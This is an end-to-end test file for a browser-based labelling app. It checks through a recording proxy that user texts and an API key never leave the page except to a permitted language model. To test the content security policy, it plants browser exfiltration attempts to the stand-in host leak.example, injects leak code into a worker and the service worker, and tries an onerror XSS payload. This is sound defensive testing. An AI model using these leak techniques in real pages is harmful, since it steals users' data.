// Tests that no data leaves the page. All traffic of Chromium goes through a proxy that records the traffic.
// The test also detects planted leaks. The page's policy blocks all leaks that a policy can block.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';

import { npy } from '../support/embeddings.mjs';
import { startModel } from '../support/model.mjs';
import {
  SERVICE_WORKER, headersIn, messagesWith, readableUrl, recordLogs, siteFiles, sitePath, startHost, startProxy, waitForOfflineReady,
  withChange,
} from '../support/site.mjs';
import {
  LONG, PAGE, choose, chooseWithEmbeddings, download, folder, labelOne, launch, openPage, parseCsv, picks, prepareQuestions,
  saveScreenshot, select, set, unfold,
} from '../support/tools.mjs';

const LEAK = 'http://leak.example';
const N = 40;
const TEXTS = Array.from({ length: N }, (_, n) => `${['The card is lost', 'A recipe for soup', 'The probe sent a picture', 'When to sow'][n % 4]}, said ${n}`);
const CSV = join(folder('e2e'), 'trust.csv');
const LATER = join(folder('e2e'), 'trust-later.csv');
writeFileSync(CSV, ['text', ...TEXTS.map((text) => `"${text}"`)].join('\n'));
writeFileSync(LATER, ['text', ...TEXTS.map((text) => `"${text}, later"`)].join('\n'));

let files;
before(async () => { files = await siteFiles(); });

// Chromium itself sends requests to these hosts for updates and sign-in, regardless of the open page.
// Chromium also sends a hash of form field names, to find out the meaning of the fields.
// The list `foreign` of requests to other origins shows that the page and its workers do not use the hosts.
const CHROMIUMS_OWN = ['accounts.google.com', 'update.googleapis.com', 'content-autofill.googleapis.com', 'clients2.google.com'];

/** Requests for files of the site at `address` are not leaks. */
function leaks(seen, address) {
  const listed = new Set([SERVICE_WORKER, '', ...files.keys()]);
  const isListed = (url) => url.startsWith(address) && listed.has(url.slice(address.length));
  return seen.filter((url) => !isListed(url) && !CHROMIUMS_OWN.includes(new URL(url).hostname));
}

/**
 * Adds a test with a host for the site, a proxy that records all requests, and a page.
 * The host sends no headers unless `sendsHeaders` is set. With `realServer`, the test uses the real server.
 * The test fails if a log or a URL contains a text.
 */
function check(name, body, { realServer = false, sendsHeaders = false, prepare = (site) => site, ...options } = {}) {
  test(`trust: ${name}`, { timeout: LONG }, async () => {
    const headers = sendsHeaders ? headersIn(String(files.get(SERVICE_WORKER))) : {};
    const host = realServer ? { address: PAGE, stop() {} } : await startHost(prepare(files), '/', headers);
    const proxy = await startProxy(new URL(host.address).origin);
    const browser = await launch(proxy.args);
    try {
      const opened = await openPage(browser, { address: host.address, serviceWorkers: 'allow', ...options });
      try {
        // The context must not block requests to other origins, because the requests must reach the proxy.
        await opened.context.unrouteAll();
        const messages = recordLogs(opened.context);
        // A request that is blocked before the page listens would be missing in the page's list.
        await opened.page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.asked) > 0);
        const recorded = () => [...messages, ...proxy.seen.map(readableUrl)];
        await body({ ...opened, host, proxy, recorded });
        assert.deepEqual(opened.problems, []);
        assert.deepEqual(messagesWith(recorded(), TEXTS), [], 'texts in a log or a URL');
      } catch (error) {
        await saveScreenshot(opened.page, `trust ${name}`);
        throw error;
      }
    } finally {
      await browser.close();
      proxy.stop();
      host.stop();
    }
  });
}

const pathOf = (url) => new URL(url).pathname;

/**
 * Checks that the page counts and lists each request that the proxy saw.
 * The page may list more requests than the proxy, because the browser's cache answers some requests.
 */
async function checkRequestList(page, host, proxy) {
  // The browser itself, and not the page, requests the service worker's script.
  const requested = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
  assert.ok(requested.length > 10, `${requested}`);
  await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, requested.length);
  await page.click('#network');
  await page.waitForSelector('#network-dialog[open] #origins li');
  const rows = await page.$$eval('#places tbody tr', (rows) => rows.map((row) => [row.cells[0].textContent, Number(row.cells[2].textContent)]));
  const listedTimes = (path) => rows.reduce((sum, [listed, n]) => sum + (listed === path ? n : 0), 0);
  const missing = [...new Set(requested)].filter((path) => listedTimes(path) < requested.filter((other) => other === path).length);
  assert.deepEqual(missing, [], 'requests that are listed too rarely');
  await page.keyboard.press('Escape');
}

/** Labels a text of a new project. With `embeddings`, the content of a .npy file, the page needs no encoder. */
async function runSession(page, file, embeddings) {
  await (embeddings ? chooseWithEmbeddings(page, file, embeddings) : choose(page, [file]));
  await set(page, 'budget', 6);
  await select(page);
  await labelOne(page, 'money');
  await unfold(page);
  return download(page, '#export-csv');
}

for (const realServer of [true, false]) {
  const source = realServer ? 'a host with headers' : 'a host without headers';
  check(`whole session requests only files of the site from ${source}`, async ({ page, host, proxy, foreign }) => {
    await waitForOfflineReady(page);
    await runSession(page, CSV);
    await checkRequestList(page, host, proxy);
    const rows = await picks(page);
    // The stored page must work without a network, so the proxy drops all requests.
    proxy.cut = true;
    const before = proxy.seen.length;
    await page.reload();
    await page.waitForSelector('.pick[data-label=money]');
    assert.deepEqual(await picks(page), rows);
    await page.click('#new-project');
    await runSession(page, LATER);
    assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
    const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
    assert.deepEqual(asked, [], 'only the check for a newer version is sent');
    // The page counts all sent requests, and also the requests that the browser's cache answers.
    await page.click('#network');
    await page.waitForSelector('#network-dialog[open]');
    await page.waitForSelector('#network-dialog #origins li');
    assert.match(await page.innerText('#went-elsewhere'), /^All went to the page’s own server/);
    assert.equal(await page.locator('#refused').count(), 0, 'the policy blocks nothing of the page itself');
    await page.waitForFunction(() => /works offline/.test(document.querySelector('#offline')?.innerText));
  }, { realServer });
}

/** All ways in which a page can send data that the proxy can see, each with a separate URL path. */
function plantLeaks(leak) {
  const text = 'secret';
  const attempts = {
    image: () => { new Image().src = `${leak}/image?${text}`; },
    srcset: () => { new Image().srcset = `${leak}/srcset?${text} 1x`; },
    background: () => {
      const box = document.createElement('div');
      Object.assign(box.style, { height: '1px', background: `url("${leak}/background?${text}")` });
      document.body.append(box);
    },
    drawing: () => {
      const [svg, image] = ['svg', 'image'].map((name) => document.createElementNS('http://www.w3.org/2000/svg', name));
      image.setAttribute('href', `${leak}/drawing?${text}`);
      svg.append(image);
      document.body.append(svg);
    },
    poster: () => { const video = document.createElement('video'); video.poster = `${leak}/poster?${text}`; document.body.append(video); },
    audio: () => { new Audio(`${leak}/audio?${text}`).load(); },
    fetch: () => fetch(`${leak}/fetch`, { mode: 'no-cors', method: 'POST', body: text }),
    beacon: () => navigator.sendBeacon(`${leak}/beacon`, text),
    xhr: () => { const request = new XMLHttpRequest(); request.open('POST', `${leak}/xhr`); request.send(text); },
    socket: () => new WebSocket(`${leak.replace('http', 'ws')}/socket`),
    events: () => new EventSource(`${leak}/events`),
    style: () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${leak}/style?${text}`; document.head.append(link); },
    prefetch: () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${leak}/prefetch?${text}`; document.head.append(link); },
    preload: () => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'preload', as: 'image', href: `${leak}/preload?${text}` });
      document.head.append(link);
    },
    font: () => new FontFace('leak', `url(${leak}/font?${text})`).load().catch(() => {}),
    video: () => { const video = document.createElement('video'); video.src = `${leak}/video?${text}`; document.body.append(video); },
    frame: () => { const frame = document.createElement('iframe'); frame.src = `${leak}/frame?${text}`; document.body.append(frame); },
    form: () => {
      const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
      Object.assign(frame, { name: 'to' });
      Object.assign(form, { action: `${leak}/form`, method: 'post', target: 'to' });
      document.body.append(frame, form);
      form.submit();
    },
    module: () => import(`${leak}/module`),
    // Only this document of the site has a policy that allows requests to other origins, for a language model.
    endpoint: () => {
      const frame = document.createElement('iframe');
      frame.src = JSON.parse(document.querySelector('#assets').textContent).endpoint;
      frame.onload = () => frame.contentWindow.fetch(`${leak}/endpoint`, { mode: 'no-cors', method: 'POST', body: text }).catch(() => {});
      document.body.append(frame);
    },
  };
  for (const attempt of Object.values(attempts)) {
    try { Promise.resolve(attempt()).catch(() => {}); } catch { /* The policy refused the attempt at once. */ }
  }
  return Object.keys(attempts);
}

const leakInWorker = (site) => withChange(site, sitePath(site, 'worker-loader.js'), (source) => {
  const marker = 'tellRequests(requests);';
  assert.ok(source.includes(marker));
  return source.replace(marker, `${marker} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
});
/**
 * Changes the service worker so that it leaks data whenever it receives a message.
 * A single leak could be too early, before requests to the host are permitted.
 */
const leakInServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
self.addEventListener('message', () => {
  console.log('secret of the service worker');
  fetch('${LEAK}/service-worker', { mode: 'no-cors' }).catch(() => {});
});
`));

/** For a WebSocket, the proxy sees only the tunnel request. */
function arrivedLeaks(proxy) {
  const kinds = proxy.seen.map((url) => {
    if (url === `${LEAK.replace('http', 'https')}:80`) return 'socket';
    return url.startsWith(LEAK) ? pathOf(url).slice(1) : undefined;
  });
  return [...new Set(kinds.filter(Boolean))].sort();
}

async function waitForLeaks(page, proxy, count) {
  for (let attempt = 0; attempt < 100 && arrivedLeaks(proxy).length < count; attempt += 1) await page.waitForTimeout(100);
  return arrivedLeaks(proxy);
}

check('planted leak is found with the policy off', async ({ page, host, proxy, foreign, recorded }) => {
  const kinds = await page.evaluate(plantLeaks, LEAK);
  assert.deepEqual(await waitForLeaks(page, proxy, kinds.length), kinds.sort());
  assert.ok(foreign.length > 0);
  assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the check of the session finds the leaks');
  await page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.elsewhere) > 0);
  assert.match(await page.innerText('#privacy'), /Requests went to other servers/);
  // The check for the user's texts also finds secrets in logs and URLs.
  await page.evaluate(() => console.log('a', { secret: 'of the page' }));
  const exposed = messagesWith(recorded(), ['secret']);
  for (const words of [`${LEAK}/image?secret`, 'of the page']) assert.ok(exposed.some((message) => message.includes(words)), `${words}: ${exposed}`);
}, { bypassCSP: true, prepare: (site) => withoutTrustedTypes(site), serviceWorkers: 'block' });

/** A site in which `start.js` does not enforce Trusted Types, because index.html lacks the policy. */
function withoutTrustedTypes(site) {
  return withChange(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
}

for (const realServer of [true, false]) {
  const source = realServer ? 'the headers' : 'the page alone';
  check(`policy of ${source} blocks all but two planted leaks, and both are found`, async ({ page, host, proxy }) => {
    const kinds = await page.evaluate(plantLeaks, LEAK);
    const [allowed, blocked] = [['endpoint'], kinds.filter((kind) => kind !== 'endpoint')];
    await waitForLeaks(page, proxy, allowed.length);
    await page.waitForTimeout(2000);
    assert.deepEqual(arrivedLeaks(proxy), allowed);
    // Two leaks are expected. Repeated URLs are removed, because the browser repeats requests that the proxy cut off.
    const leaked = () => [...new Set(leaks(proxy.seen, host.address))];
    assert.deepEqual(leaked(), [`${LEAK}/endpoint`]);
    await page.click('#network');
    await page.waitForSelector('#network-dialog[open]');
    const refused = await page.innerText('#refused');
    // For a frame, the browser reports only the host of the request.
    for (const kind of blocked) assert.ok(refused.includes(`leak.example/${kind === 'frame' ? ',' : kind}`), `${kind}: ${refused}`);
    assert.ok(!refused.includes('endpoint'), refused);
    // A script can navigate the tab to another URL.
    await page.evaluate((leak) => { location.href = `${leak}/tab`; }, LEAK);
    assert.deepEqual(await waitForLeaks(page, proxy, 2), ['endpoint', 'tab']);
    assert.deepEqual(leaked(), [`${LEAK}/endpoint`, `${LEAK}/tab`]);
  }, { realServer, serviceWorkers: 'block' });
}

check('leak in a worker is blocked on the first visit to a host without headers', async ({ page, proxy }) => {
  await runSession(page, CSV, npy(N, 4));
  assert.deepEqual(arrivedLeaks(proxy), []);
  await page.click('#network');
  await page.waitForSelector('#network-dialog[open]');
  assert.match(await page.innerText('#refused'), /leak\.example\/worker/);
}, { prepare: leakInWorker });

check('leak in a worker is found without the service worker', async ({ page, proxy, recorded }) => {
  await runSession(page, CSV, npy(N, 4));
  assert.deepEqual(arrivedLeaks(proxy), ['worker']);
  assert.ok(messagesWith(recorded(), ['secret of a worker']).length > 0, 'the log of the worker is found too');
}, { prepare: leakInWorker, serviceWorkers: 'block' });

for (const sendsHeaders of [true, false]) {
  const fate = sendsHeaders ? 'blocked on a host with headers' : 'found on a host without headers';
  check(`leak in the service worker script is ${fate}`, async ({ page, host, proxy, recorded }) => {
    await page.reload();
    await waitForOfflineReady(page);
    const logged = () => messagesWith(recorded(), ['secret of the service worker']).length > 0;
    for (let attempt = 0; attempt < 100 && !logged(); attempt += 1) await page.waitForTimeout(100);
    assert.ok(logged(), 'it ran');
    await waitForLeaks(page, proxy, sendsHeaders ? 0 : 1);
    assert.deepEqual(arrivedLeaks(proxy), sendsHeaders ? [] : ['service-worker']);
    assert.deepEqual([...new Set(leaks(proxy.seen, host.address))], sendsHeaders ? [] : [`${LEAK}/service-worker`]);
  }, { prepare: leakInServiceWorker, sendsHeaders });
}

check('strings do not become code or HTML', async ({ page }) => {
  const results = await page.evaluate(() => {
    const errorOf = (attempt) => { try { attempt(); return false; } catch (error) { return error.name; } };
    const inline = document.createElement('script');
    inline.append('window.ran = "inline"');
    const attribute = document.createElement('div');
    document.body.append(attribute);
    return {
      html: errorOf(() => { document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">'; }),
      script: errorOf(() => { document.createElement('script').src = 'https://leak.example/x.js'; }),
      worker: errorOf(() => new Worker('data:text/javascript,1')),
      blob: errorOf(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      text: errorOf(() => { document.body.append(inline); }),
      click: errorOf(() => { attribute.setAttribute('onclick', 'window.ran = "attribute"'); attribute.click(); }),
      policy: errorOf(() => trustedTypes.createPolicy('mine', {})),
      plain: errorOf(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
      ran: window.ran,
      cookies: document.cookie,
    };
  });
  const { html, script, worker, blob, policy, plain, ran, cookies } = results;
  assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
  assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'harmless HTML is refused too');

  // The code runs in a task of the page itself, because the policy might not apply to code that the debugger evaluates.
  const strings = await page.evaluate(() => new Promise((resolve) => {
    const errorOf = (attempt) => { try { attempt(); return 'it ran'; } catch (error) { return error.name; } };
    setTimeout(() => {
      const functions = { eval: () => (0, eval)('1'), function: () => new Function('return 1')(), async: () => new (async () => {}).constructor('1') };
      resolve(Object.fromEntries(Object.entries(functions).map(([name, attempt]) => [name, errorOf(attempt)])));
    });
  }));
  assert.deepEqual(strings, { eval: 'EvalError', function: 'EvalError', async: 'EvalError' });
});

check('request to a language model opens one frame to it alone and closes it', async ({ page, host, proxy, permit, recorded }) => {
  const [model, other] = [await startModel(), await startModel()];
  const sentTo = ({ origin }) => proxy.seen.filter((url) => url.startsWith(origin)).length;
  /** Sends a request from the page, or from the document that may ask a language model. */
  const send = (to, from) => page.evaluate(([address, from]) => {
    const window = from === 'frame' ? document.querySelector('iframe').contentWindow : globalThis;
    return window.fetch(address, { method: 'POST', body: '{"messages":[]}' }).then(() => 'sent', (error) => error.name);
  }, [`${to.origin}/v1/x`, from]);
  try {
    for (const { origin } of [model, other]) { permit(origin); proxy.open.add(origin); }
    await chooseWithEmbeddings(page, CSV, npy(N, 4));
    await prepareQuestions(page, model);
    model.delay = 200;
    assert.equal(await send(model), 'TypeError', 'the page itself cannot send requests');
    assert.equal(await page.locator('iframe').count(), 0);
    assert.deepEqual([model, other].map(sentTo), [0, 0]);
    await page.click('#ask');
    await page.click('#answer-yes');
    await page.waitForSelector('#asking');
    await page.waitForSelector('iframe', { state: 'attached' });
    assert.equal(await send(model), 'TypeError', 'the page itself cannot send requests while the frame exists');
    assert.equal(await send(other, 'frame'), 'TypeError', 'the frame reaches only the language model');
    assert.equal(sentTo(other), 0);
    await page.waitForSelector('#confidences-given');
    assert.equal(await page.locator('iframe').count(), 0, 'the frame is removed');
    assert.equal(model.requests.length, N);
    const elsewhere = () => page.$eval('#network-count', (count) => Number(count.dataset.elsewhere));
    assert.equal(await elsewhere(), N, 'the page counts its requests');

    // The key of the model is sent only to the model.
    model.delay = 0;
    await set(page, 'answers-endpoint', `${model.origin}/v1`);
    await set(page, 'answers-model', 'tiny');
    await set(page, 'answers-key', 'sk-secret');
    await page.click('#answers-check');
    await page.waitForSelector('#question[open]');
    assert.equal(model.requests.length, N, 'nothing is sent before the user agrees');
    await page.click('#answer-yes');
    await page.waitForSelector('#answers-accuracy[data-total="10"]');
    await page.waitForSelector('#answers-progress', { state: 'detached' });
    const checked = model.requests.length;
    await page.click('#answers-ask');
    await page.waitForSelector('#question[open]');
    assert.equal(model.requests.length, checked, 'nothing is sent before the user agrees');
    await page.click('#answer-yes');
    await page.waitForFunction((n) => document.querySelector('#answers-open')?.dataset.texts === n, String(N - 10));
    await page.waitForSelector('#answers-progress', { state: 'detached' });
    assert.equal(await page.locator('iframe').count(), 0, 'the frame is removed');
    assert.deepEqual([await elsewhere(), sentTo(other)], [model.requests.length, 0]);
    const keys = model.requests.map(({ key }) => key);
    assert.ok(checked > N + 10 && keys.length === checked + N - 10, `${checked}, ${keys.length}`);
    assert.deepEqual(keys, [...Array(N).fill(undefined), ...Array(keys.length - N).fill('Bearer sk-secret')]);

    // Accepting answers and exporting labels must send no request to another server.
    await page.click('#answers-review');
    await page.waitForSelector('#answer-review-dialog[open]');
    await page.fill('#answers-least', '0');
    await page.waitForFunction((n) => document.querySelector('#answers-selected')?.dataset.count === n, String(N - 10));
    await page.keyboard.press('Control+Enter');
    await page.waitForSelector('#answers-open', { state: 'detached' });
    const { text } = await download(page, '#export-csv');
    const [header, ...records] = parseCsv(text);
    assert.equal(records.filter((record) => record[header.indexOf('origin')] === 'model').length, N - 10);
    assert.ok(!text.includes('sk-secret'), 'the key is not in the export');
    assert.deepEqual(messagesWith(recorded(), ['sk-secret']), [], 'the key is in no log and no URL');
    const elsewhereUrls = leaks(proxy.seen, host.address).filter((url) => !url.startsWith(`${model.origin}/`));
    assert.deepEqual(elsewhereUrls, [], 'every request goes to the site or to the language model');
    assert.ok(sentTo(model) >= model.requests.length, 'the proxy sees the requests to the language model');
  } finally {
    model.stop();
    other.stop();
  }
}, { realServer: true });

check('request to a language model closes its frame even if the user stops while it loads', async ({ page }) => {
  const model = await startModel();
  try {
    await chooseWithEmbeddings(page, CSV, npy(N, 4));
    await prepareQuestions(page, model);
    // This request for the document of the frame gets no answer, so the frame never loads.
    await page.route(`**/${sitePath(files, 'endpoint.html')}`, () => {});
    await page.click('#ask');
    await page.click('#answer-yes');
    await page.waitForSelector('iframe', { state: 'attached' });
    await page.click('#stop-asking');
    await page.waitForSelector('iframe', { state: 'detached' });
    assert.equal(model.requests.length, 0);
  } finally {
    model.stop();
  }
}, { serviceWorkers: 'block' });

test('trust: headers contain the policy and the isolation rules', async () => {
  const expected = {
    'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp', 'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff', 'set-cookie': null,
  };
  const meta = String(files.get('index.html')).match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)[1];
  assert.match(meta, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
  assert.match(meta, /connect-src 'self';/);
  assert.doesNotMatch(meta, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  const scripts = ['app.js', 'worker.js', 'worker-loader.js'].map((name) => sitePath(files, name));
  for (const path of ['', ...scripts, SERVICE_WORKER]) {
    const { headers, status } = await fetch(new URL(path, PAGE));
    assert.equal(status, 200, path);
    for (const [name, value] of Object.entries(expected)) assert.equal(headers.get(name), value, `${path}: ${name}`);
    assert.equal(headers.get('content-security-policy'), `${meta}; frame-ancestors 'self'`);
    assert.match(headers.get('permissions-policy'), /camera=\(\).*microphone=\(\)/);
  }
});
